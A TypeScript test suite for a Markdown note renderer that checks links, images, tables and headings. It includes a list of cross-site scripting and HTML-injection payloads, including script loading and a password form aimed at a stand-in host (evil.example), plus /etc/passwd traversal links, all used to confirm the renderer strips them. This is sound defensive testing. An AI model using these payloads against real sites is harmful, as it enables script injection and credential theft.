import t from 'tap'
import { renderNote } from '../../src/rendering/markdown.ts'
import { html as page, mapOf } from './page.ts'

const paths = [
  'index.md',
  'Folder/Note one.md',
  'Folder/index.md',
  'Folder/pictures/Moon.PNG',
  'Target.md',
  'e\u0301te\u0301.md',
  'chart.svg',
]
const map = mapOf(paths)
const html = (note: string) => page(note, { path: 'Folder/Note one.md', map })

t.test('resolves links between notes', async t => {
  const table: [note: string, html: string][] = [
    ['[a](../Target.md)', '<a href="/s/x/Target">a</a>'],
    ['[a](Note%20one.md)', '<a href="/s/x/Folder/Note%20one">a</a>'],
    ['[a](./)', '<a href="/s/x/Folder/">a</a>'],
    ['[a](../index.md)', '<a href="/s/x/">a</a>'],
    ['[a](#My heading)', '[a](#My heading)'],
    ['[a](nothing.md)', '<a class="missing">a</a>'],
    ['[a](../../../etc/passwd)', '<a class="missing">a</a>'],
    ['[a](//evil.example/x)', '<a class="missing">a</a>'],
    ['[a](https://b.org/?q=1)', '<a href="https://b.org/?q=1" rel="noopener noreferrer">a</a>'],
    ['[[Target|words *here*]]', '<a href="/s/x/Target">words *here*</a>'],
    ['[[Target#Some H!]]', '<a href="/s/x/Target#h-some-h">Target › Some H!</a>'],
    ['[[#Some Heading]]', '<a href="#h-some-heading">Some Heading</a>'],
    ['[[été]]', '<a href="/s/x/e%CC%81te%CC%81">été</a>'],
    ['[[nothing]]', '<a class="missing">nothing</a>'],
    ['`[[Target]]`', '<code>[[Target]]</code>'],
    ['[[]]', '[[]]'],
  ]
  for (const [note, expected] of table) t.equal(html(note), `<p>${expected}</p>`, note)
})

t.test('renders images, tables and headings', async t => {
  const picture = '/s/x/Folder/pictures/Moon.PNG'
  t.equal(
    html('![the moon](pictures/Moon.PNG)'),
    `<p><img src="${picture}" alt="the moon" loading="lazy" /></p>`,
  )
  t.match(html('![[Moon.PNG]]'), `<img src="${picture}" alt="Moon.PNG"`)
  t.match(html('![[moon.png|300]]'), `<img src="${picture}" alt="moon.png"`)
  t.match(html('![[moon.png|the moon]]'), `alt="the moon"`)
  t.equal(
    html('![chart](https://tracker.example/pixel.png)'),
    '<p><a href="https://tracker.example/pixel.png" rel="noopener noreferrer">chart</a></p>',
    'does not reveal the reader',
  )
  t.match(html('![gone](gone.png)'), '<span class="missing">gone</span>')
  const table = html('| Night | Who |\n| :-- | --: |\n| [[Target\\|Monday]] | Alex |')
  t.match(table, /<div class="scroll" tabindex="0" role="group" aria-label="Table">\s*<table>/)
  t.match(
    html('<div class="scroll" id="content" role="alert" tabindex="5" aria-label="x">a</div>'),
    '<div class="scroll" tabindex="0" role="group" aria-label="Table">a</div>',
  )
  t.match(table, '<td class="right">Alex</td>')
  t.match(table, '<a href="/s/x/Target">Monday</a>')
  t.match(html('## Nights & days'), '<h2 id="h-nights-days">Nights &amp; days</h2>')
  t.match(html('## Twice\n\n## Twice'), /id="h-twice"[\s\S]*id="h-twice-\d"/)
  t.match(
    html('```js\nlet x\n```'),
    '<pre tabindex="0"><code class="language-js"><span class="hljs-keyword">let</span> x',
  )
  t.match(html('```nothing\nlet <x>\n```'), '<code class="language-nothing">let &lt;x&gt;')
  t.match(html('~~gone~~ **b** _i_ <mark>m</mark> <kbd>K</kbd>'), '<s>gone</s> <strong>b</strong>')
})

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](vbscript:x)',
  '![x](javascript:alert(1))',
  '[[javascript:alert(1)]]',
  '[x](wikilink:javascript%3Aalert(1))',
  '<iframe src="https://evil.example"></iframe>',
  '<form action="https://evil.example"><input name=password></form>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<base href="https://evil.example">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<object data=x></object><embed src=x>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<h1 id="content">x</h1>',
  '<a id="content">x</a>',
  '[x](obsidian:javascript:alert(1)) [x](file:///etc/passwd)',
  '<div class="skip" role="alert">x</div>',
  '"><img src=x onerror=alert(1)>',
  '[x](x "onmouseover=alert(1)")',
  '```"><script>alert(1)</script>\nx\n```',
]

/** What only something dangerous looks like, in the attributes and elements of finished HTML. */
const dangerous =
  /<(?:script|style|iframe|object|embed|form|input|base|meta|link|svg|noscript|maction|annotation-xml|mglyph|malignmark)\b|<[^>]*\s(?:on\w+|style|srcdoc)=|(?:href|src)="\s*(?:javascript|vbscript|data|wikilink):|id="content"|class="skip"/i

t.test('a comment without an end hides its block alone', async t => {
  t.match(html('- <!-- hidden\n- next\n\nafter'), /<li[^>]*>next<[^]*>after</)
  t.notMatch(html('- <!-- hidden\n- next'), 'hidden')
  t.match(html('<!-- one --> <b>two</b>'), '<b>two</b>')
})

t.test('no script in a note runs', async t => {
  for (const attack of attacks) {
    t.notMatch(html(attack), dangerous, attack)
    t.notMatch(
      html(`| a |\n|--|\n| ${attack.replaceAll('\n', ' ')} |`),
      dangerous,
      `cell: ${attack}`,
    )
  }
})

const units = [
  '[[',
  '[[a [b] ',
  '[[a#[b] ',
  '![[a|',
  '[a](',
  '**_',
  '<div>',
  '> ',
  '| a ',
  '# x\n',
  '`',
  '%%',
  '==',
  '^[',
  '[^1]',
  '%%x%%\n\n',
  'a %%\n\n',
  '- %%\n',
  '[%%](a)',
]
  .concat(['> [!tip]- \n', '- [ ] ', '![[a]] ', 'a ^b\n\n', '[^a]: x\n', '`` ` ', '```js\n'])
  .concat(['$x$ ', '$a', '$$', '$$\n', '$$x ', '$\\frac{a}{b}$ ', '\\$'])

t.test('renders any 10,000 characters', async t => {
  // What grows with more than the square of a note would not end here.
  for (const unit of units)
    t.type(html(unit.repeat(Math.floor(10_000 / unit.length))), 'string', unit)
})

t.test('a soft hyphen is shown, and does not keep the search from finding a word', async t => {
  const note = renderNote('# Ale\u00ADxandra\n\nMaxi\u00ADmilian')
  t.equal(note?.title, 'Alexandra')
  t.equal(note?.text, 'Alexandra\nMaximilian')
  t.match(note?.pieces[0], 'Maxi\u00ADmilian')
})
